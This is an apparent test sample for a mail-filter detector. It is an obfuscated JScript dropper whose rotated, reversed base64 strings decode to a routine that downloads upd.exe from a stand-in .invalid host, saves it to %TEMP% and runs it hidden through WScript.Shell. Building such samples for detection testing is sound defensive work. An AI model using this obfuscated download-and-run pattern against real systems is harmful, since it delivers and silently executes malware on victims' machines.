// Test dropper written for fileless-milter (inert): download, save and run, every name
// from a rotated table of reversed base64 strings (javascript-obfuscator style). The URL is
// in .invalid; the emulator never connects anywhere.
var _t = ["ZWxpRm9UZXZhUw==","ZXhlLmRwdVwlUE1FVCU=","bGxlaFMudHBpcmNTVw==","c2duaXJ0U3RuZW1ub3Jpdm5FZG5hcHhF","bnVS","bmVwbw==","ZG5lcw==","ZXRpclc=","bmVwTw==","UFRUSExNWC4yTE1YU00=","VEVH","ZXhlLmRwdS9kaWxhdm5pLmVscG1heGUuZGFvbG53b2QvLzpwdHRo","bWFlcnRTLkJET0RB","eWRvQmVzbm9wc2Vy"];
(function (a, n) { while (n--) a.unshift(a.pop()); })(_t, 5);
function _s(i) { var x = _t[i], c = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = "", b = 0, n = 0; for (var j = 0; j < x.length; j++) { var v = c.indexOf(x.charAt(j)); if (v < 0) continue; b = (b << 6) | v; n += 6; if (n >= 8) { n -= 8; o += String.fromCharCode((b >> n) & 255); } } return o.split("").reverse().join(""); }
var h = new ActiveXObject(_s(0)); h[_s(10)](_s(1), _s(2), false); h[_s(11)]();
var st = new ActiveXObject(_s(3)); st[_s(13)](); st.Type = 1; st[_s(12)](h[_s(4)]);
var sh = new ActiveXObject(_s(7)); var f = sh[_s(8)](_s(6));
st[_s(5)](f, 2); st.Close();
sh[_s(9)](f, 0, false);
